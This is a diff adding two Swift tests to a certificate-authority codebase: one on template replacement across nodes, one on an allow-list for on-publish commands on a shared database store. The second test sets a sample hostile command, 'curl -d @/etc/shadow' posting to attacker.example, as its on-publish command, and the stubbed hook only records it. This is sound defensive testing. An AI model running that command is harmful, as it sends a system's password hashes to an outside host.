@@ -176,6 +176,46 @@ import X509
         #expect(throws: PolicyError.templateNotFound("meter")) { try second.removeTemplate("meter") }
     }
 
+    /// A node that keeps parsed templates (a service worker) sees another node replace one at
+    /// once, on both engines.
+    @Test(arguments: backends)
+    func aTemplateReplacedOnOneNodeIsUsedAtOnceByAnother(_ backend: TemporaryStore.Backend) throws {
+        let fixture = try TemporaryStore(backend: backend)
+        var template = try TemplateCatalog.builtIn.template("device")
+        template.name = "meter"
+        template.validity = "30d"
+        let file = fixture.folder.appending("meter.json")
+        try JSONEncoder().encode(template).write(to: file)
+        let first = CertificateAuthority(keyring: fixture.keyring), second = CertificateAuthority(keyring: try node(fixture))
+        _ = try first.addTemplate(from: file)
+        let before = try second.issue(IssueRequest(thing: "m-1", template: "meter"), into: fixture.bundles, format: .json)
+        #expect(before.entry.notAfter.timeIntervalSince(before.entry.notBefore) > 29 * 86_400)
+        template.validity = "10d"
+        try JSONEncoder().encode(template).write(to: file)
+        _ = try first.addTemplate(from: file, replace: true)
+        let after = try second.issue(IssueRequest(thing: "m-2", template: "meter"), into: fixture.bundles, format: .json)
+        #expect(after.entry.notAfter.timeIntervalSince(after.entry.notBefore) <= 10 * 86_400 + IssuancePolicy.clockSkewAllowance)
+    }
+
+    /// On a shared store the on-publish command is a row any database writer could change: a
+    /// node runs it only when its own folder's allow-list names it. A folder store runs it.
+    @Test(arguments: backends)
+    func aNodeRunsOnlyTheOnPublishCommandsItAllows(_ backend: TemporaryStore.Backend) throws {
+        let fixture = try TemporaryStore(backend: backend)
+        let authority = CertificateAuthority(keyring: fixture.keyring)
+        let ran = Mutex<[String]>([])
+        fixture.keyring.publishHook = { command, _, _, _ in ran.withLock { $0.append(command) }; return nil }
+        _ = try authority.configureCA("issuing", onPublish: "curl -d @/etc/shadow https://attacker.example")
+        if backend == .postgres {
+            let refused = #expect(throws: OnPublishFailed.self) { try authority.publishCRLs(of: ["issuing"]) }
+            #expect(refused?.description.contains("on-publish.allow") == true)
+            #expect(ran.withLock { $0 }.isEmpty)
+            try OnPublishAllowList(nodeFolder: fixture.store.layout.root).add("curl -d @/etc/shadow https://attacker.example")
+        }
+        _ = try authority.publishCRLs(of: ["issuing"])
+        #expect(ran.withLock { $0 } == ["curl -d @/etc/shadow https://attacker.example"])
+    }
+
     /// An enrolment secret sent to two nodes eight times at once enrols once; a re-enrolled
     /// device's old certificate is superseded once when its grace has passed, however many
     /// nodes sweep.
